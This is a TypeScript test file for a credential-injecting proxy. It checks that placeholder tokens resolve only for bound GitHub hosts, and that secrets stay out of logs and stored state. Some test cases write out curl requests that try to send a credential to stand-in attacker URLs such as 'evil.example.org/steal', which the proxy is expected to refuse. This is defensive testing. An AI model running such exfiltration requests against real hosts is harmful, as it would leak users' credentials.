import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { curl } from './helpers/clients.js';
import { startHarness, type Harness } from './helpers/proxy-harness.js';
import {
  createTestCertificate,
  startHttpUpstream,
  startHttpsUpstream,
  type Upstream,
} from './helpers/upstream-servers.js';

const SECRET = 'ghp_REALSECRET0123456789';
const PLACEHOLDER = 'openshell:resolve:env:GITHUB_TOKEN';

const POLICY = `
version: 1
network_policies:
  apis:
    name: apis
    endpoints:
      - { host: api.github.com, port: 443, protocol: rest, access: full, request_body_credential_rewrite: true }
      - { host: uploads.github.com, port: 443, protocol: rest, access: full }
      - { host: evil.example.org, port: 443, protocol: rest, access: full }
      - { host: plain.example.org, port: 80, protocol: rest, access: full }
    binaries:
      - path: /usr/bin/curl
`;

let tls: Upstream;
let plain: Upstream;
let harness: Harness;
let logDir: string;

beforeAll(async () => {
  logDir = mkdtempSync(join(tmpdir(), 'proxy-cred-log-'));
  const cert = await createTestCertificate([
    'api.github.com',
    'uploads.github.com',
    'evil.example.org',
  ]);
  tls = await startHttpsUpstream(cert);
  plain = await startHttpUpstream();
  harness = await startHarness({
    options: {
      upstreamCaPem: cert.certPem,
      log: { path: join(logDir, 'decisions.jsonl') },
      resolveOverrides: [
        `api.github.com:443=127.0.0.1:${tls.port}`,
        `uploads.github.com:443=127.0.0.1:${tls.port}`,
        `evil.example.org:443=127.0.0.1:${tls.port}`,
        `plain.example.org:80=127.0.0.1:${plain.port}`,
      ],
    },
  });
  const ack = await harness.setPolicy(POLICY, [
    {
      provider: 'github',
      hosts: ['api.github.com', '*.github.com'],
      credentials: { GITHUB_TOKEN: SECRET },
    },
  ]);
  expect(ack.ok).toBe(true);
});

afterAll(async () => {
  await harness.close();
  await tls.close();
  await plain.close();
  rmSync(logDir, { recursive: true, force: true });
});

const ca = (): { caFile: string } => ({ caFile: harness.proxy.caBundlePath });

describe('credential placeholders', () => {
  test.for([
    [
      'Bearer header to the bound host',
      ['-H', `Authorization: Bearer ${PLACEHOLDER}`, 'https://api.github.com/user'],
      'authorization',
      `Bearer ${SECRET}`,
    ],
    [
      'header to a host matched by the binding wildcard',
      ['-H', `X-Token: ${PLACEHOLDER}`, 'https://uploads.github.com/u'],
      'x-token',
      SECRET,
    ],
    [
      'Basic auth (git style) decoded, swapped, re-encoded',
      ['-u', `x-access-token:${PLACEHOLDER}`, 'https://api.github.com/user'],
      'authorization',
      `Basic ${Buffer.from(`x-access-token:${SECRET}`).toString('base64')}`,
    ],
  ] as const)('%s → the upstream sees the real value', async ([, args, header, expected]) => {
    const r = await curl(harness.url, args, ca());
    expect(r.code).toBe(200);
    expect(JSON.parse(r.body).headers[header]).toBe(expected);
  });

  test.for([
    [
      'TLS, a host the provider is not bound to',
      ['-H', `Authorization: Bearer ${PLACEHOLDER}`, 'https://evil.example.org/steal'],
      403,
      'credential_endpoint_mismatch',
    ],
    [
      'forward-form HTTP to an unbound host',
      ['-H', `Authorization: Bearer ${PLACEHOLDER}`, 'http://plain.example.org/steal'],
      403,
      'credential_endpoint_mismatch',
    ],
    [
      'a key no provider supplies',
      [
        '-H',
        'Authorization: Bearer openshell:resolve:env:AWS_SECRET',
        'https://api.github.com/user',
      ],
      403,
      'credential_endpoint_mismatch',
    ],
  ] as const)('%s → refused before anything is sent upstream', async ([, args, status, error]) => {
    const seen = tls.seen.length + plain.seen.length;
    const r = await curl(harness.url, args, ca());
    expect(r.code).toBe(status);
    expect(JSON.parse(r.body)).toMatchObject({ error });
    expect(tls.seen.length + plain.seen.length).toBe(seen);
  });

  test('the same request without a placeholder goes through (positive control for the refusals)', async () => {
    const r = await curl(
      harness.url,
      ['-H', 'Authorization: Bearer public', 'https://evil.example.org/ok'],
      ca(),
    );
    expect(r.code).toBe(200);
  });

  test.for([
    ['api.github.com (opted in)', 'api.github.com', SECRET],
    ['uploads.github.com (not opted in: body untouched)', 'uploads.github.com', PLACEHOLDER],
  ] as const)('a JSON body to %s', async ([, host, expected]) => {
    const r = await curl(
      harness.url,
      [
        '-H',
        'content-type: application/json',
        '-d',
        `{"token":"${PLACEHOLDER}"}`,
        `https://${host}/body`,
      ],
      ca(),
    );
    expect(r.code).toBe(200);
    expect(JSON.parse((JSON.parse(r.body) as { body: string }).body)).toEqual({ token: expected });
  });

  test('secrets never reach the decision log, the events or the persisted state', async () => {
    await curl(
      harness.url,
      [
        '-H',
        `Authorization: Bearer ${PLACEHOLDER}`,
        `https://api.github.com/q?token=${PLACEHOLDER}`,
      ],
      ca(),
    );
    const log = readFileSync(join(logDir, 'decisions.jsonl'), 'utf8');
    expect(log.length).toBeGreaterThan(0);
    expect(log).not.toContain(SECRET);
    expect(log).not.toContain('token=');
    expect(JSON.stringify(harness.events)).not.toContain(SECRET);
    const stateFiles = readdirSync(join(harness.stateDir, 'sandboxes'));
    const persisted = stateFiles
      .map((f) => readFileSync(join(harness.stateDir, 'sandboxes', f), 'utf8'))
      .join('');
    expect(persisted).toContain('GITHUB_TOKEN');
    expect(persisted).not.toContain(SECRET);
  });
});
